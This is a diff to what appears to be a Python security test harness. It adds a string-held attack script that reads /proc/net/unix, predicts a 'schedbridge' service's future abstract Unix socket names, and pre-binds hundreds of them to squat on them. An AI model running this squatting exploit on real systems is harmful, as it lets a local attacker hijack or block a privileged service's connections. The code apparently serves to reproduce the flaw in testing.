@@ -124,3 +124,31 @@ def an_asker(address, uid=VICTIM):
     finally:
         process.kill()
         process.communicate()
+
+
+TAKING_NAMES = r"""
+# The names of the service that are listed, HEAD-USER-COUNT, tell which come next.
+import re
+held = [connect(sys.argv[1]) for _ in range(4)]
+for one in held:
+    one.sendall(PREFACE + frame(4, 0, 0))
+time.sleep(1)
+listed = open("/proc/net/unix").read()
+found = re.findall(r" (\S*schedbridge-\S*?[-/])(\d+)-(\d+)$", listed, re.M)
+last = {head: max(int(count) for its, _, count in found if its == head) for head, _, _ in found}
+wanted = {(head, user, last[head] + n) for head, its, _ in found for user in (0, 65534, its)
+          for n in range(1, 501)}
+taken = []
+for head, user, count in wanted:
+    name = f"{head}{user}-{count}"
+    for address in {"\0" + name.removeprefix("@"), name.replace("@", "\0")}:
+        one = socket.socket(socket.AF_UNIX)
+        try:
+            one.bind(address)
+        except OSError:
+            one.close()
+        else:
+            taken.append(one)
+print("begun", flush=True)
+time.sleep(1000)
+"""
